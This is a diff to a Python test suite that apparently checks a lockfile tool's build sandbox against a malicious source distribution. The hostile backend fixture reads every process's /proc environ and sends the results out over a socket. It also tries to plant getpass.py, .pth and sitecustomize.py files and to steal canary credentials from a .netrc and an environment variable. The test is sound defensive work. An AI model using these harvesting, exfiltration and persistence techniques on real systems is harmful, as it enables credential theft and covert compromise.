@@ -312,6 +312,10 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
     ])
     pids = [p for p in _os.listdir("/proc") if p.isdigit()]
     results["all_environ"] = " ".join(_attempt(p, lambda p=p: _read("/proc/%s/environ" % p))[1] for p in pids)
+    if a.get("report"):  # at lock time the wheel is never seen: the backend reports over the network it has
+        s = _socket.create_connection(("127.0.0.1", a["report"]), timeout=5)
+        s.sendall(_json.dumps(results).encode())
+        s.close()
     dist = _meta()[0].replace("-", "_")
     with open(dist + "/attacks.json", "w") as f:
         _json.dump(results, f)
@@ -413,3 +417,83 @@ def _cmdline(pid: str) -> bytes:
         return Path(f"/proc/{pid}/cmdline").read_bytes()
     except OSError:
         return b""
+
+
+def test_a_build_backend_run_while_locking_meets_the_sandbox(
+    env: FakeServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """An sdist named in build-on-node without static metadata (PKG-INFO 2.1): uv must run its backend to
+    learn its metadata while locking, and that happens only inside the sandbox, whose network is kept for
+    the index. The backend reports what it met over that network: it could not plant files in lockbuild's
+    installation or the user's home, reach a Unix socket of the host, read lockbuild's environment or its
+    network namespace, and the index credentials' netrc of the home is not there."""
+    import os
+    import socket
+    import threading
+
+    import lockbuild
+
+    monkeypatch.setenv("LOCKBUILD_KEY_PASSWORD", "canary-passphrase-23")
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".netrc").write_text("machine example.org login me password canary-netrc-23\n")
+    monkeypatch.setenv("HOME", str(home))
+    targets = {
+        "getpass": Path(lockbuild.__file__).parent.parent / "getpass.py",
+        "pth": Path(sys.prefix) / "lib" / f"python{PY}" / "site-packages" / "lockbuild-test-planted-lock.pth",
+        "uv_python": home / ".local" / "share" / "uv" / "python" / "cpython-evil" / "sitecustomize.py",
+    }
+    report = socket.create_server(("127.0.0.1", 0))
+    report.settimeout(60)
+    got: list[bytes] = []
+
+    def collect() -> None:
+        try:
+            conn, _ = report.accept()
+        except OSError:
+            return
+        with conn:
+            while chunk := conn.recv(1 << 16):
+                got.append(chunk)
+
+    reader = threading.Thread(target=collect, daemon=True)
+    reader.start()
+    unix_path = tmp_path / "agent.sock"
+    unix = socket.socket(socket.AF_UNIX)
+    unix.bind(str(unix_path))
+    unix.listen(1)
+    unix.settimeout(0.2)
+    attack = {k: str(v) for k, v in targets.items()}
+    attack |= {"marker": "8123.5", "port": 9, "unix": str(unix_path), "pid": os.getpid(),
+               "report": report.getsockname()[1]}  # fmt: skip
+    pyproject = b'[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
+    data = make_tar_gz({
+        "lkdyn-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: lkdyn\nVersion: 1.0\n",
+        "lkdyn-1.0/pyproject.toml": pyproject,
+        "lkdyn-1.0/evil.py": BACKEND.encode() + HOSTILE.encode(),
+        "lkdyn-1.0/ATTACK.json": json.dumps(attack).encode(),
+        "lkdyn-1.0/lkdyn/__init__.py": b"def main():\n    pass\n",
+    })  # fmt: skip
+    if not env.projects.get(("primary", "lkdyn")):
+        env.publish("lkdyn-1.0.tar.gz", data, uploaded=day(1))
+    recipe = tmp_path / "lkdyn.toml"
+    recipe.write_text(build_on_node_recipe("lkdyn"))
+    try:
+        code, _, stderr = cli("lock", str(recipe), "--out", str(tmp_path / "locks"))
+        reader.join(timeout=30)
+        planted = [str(p) for p in targets.values() if p.exists()]
+        with pytest.raises(TimeoutError):
+            unix.accept()
+    finally:
+        for p in targets.values():
+            p.unlink(missing_ok=True)
+        report.close()
+        unix.close()
+    assert code == 0, stderr
+    results = json.loads(b"".join(got))  # the backend did run (inside the sandbox)
+    assert planted == []
+    for key in ("unix", "parent", "ns"):
+        assert results[key].startswith("failed"), (key, results[key])
+    text = json.dumps(results)
+    assert "canary-passphrase-23" not in text and "LOCKBUILD" not in results["all_environ"]
+    assert "canary-netrc-23" not in text and str(home) not in results["all_environ"]
